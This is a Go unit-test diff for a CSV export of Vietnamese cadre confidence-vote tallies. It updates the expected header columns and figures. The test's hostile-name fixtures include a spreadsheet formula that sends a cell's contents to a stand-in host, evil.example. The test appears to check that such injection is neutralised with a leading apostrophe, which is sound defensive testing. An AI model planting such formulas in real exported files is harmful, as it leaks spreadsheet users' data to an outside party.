@@ -58,7 +58,8 @@ func TestWriteCSV(t *testing.T) {
 		t.Fatalf("parsing WriteCSV output back: %v", err)
 	}
 	wantHeader := []string{"STT", "Họ và tên", "Chức vụ", "Phiếu phát ra", "Phiếu thu về", "Phiếu hợp lệ",
-		"Phiếu không hợp lệ", "Tín nhiệm cao", "%", "Tín nhiệm", "%", "Tín nhiệm thấp", "%", "Kết luận"}
+		"Phiếu không hợp lệ", "Số tính tỷ lệ (tổng số phiếu thu về)", "Tín nhiệm cao", "% Tín nhiệm cao",
+		"Tín nhiệm", "% Tín nhiệm", "Tín nhiệm thấp", "% Tín nhiệm thấp", "Kết luận"}
 	if got := rows[0]; strings.Join(got, "|") != strings.Join(wantHeader, "|") {
 		t.Errorf("header = %q, want %q", got, wantHeader)
 	}
@@ -66,7 +67,7 @@ func TestWriteCSV(t *testing.T) {
 		t.Fatalf("got %d rows, want header + %d", len(rows), len(hostileCadres))
 	}
 	conclusion := tally.MoreThanHalfLow.Vietnamese(tally.QD96)
-	wantFigures := []string{"48", "47", "46", "1", "19", "40,43", "2", "4,26", "25", "53,19", conclusion}
+	wantFigures := []string{"48", "47", "46", "1", "47", "19", "40,43", "2", "4,26", "25", "53,19", conclusion}
 	wantNames := [][2]string{
 		{`'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`, "Bí thư"},
 		{"'+84 Nguyễn Văn An", "'-Phó Bí thư"},
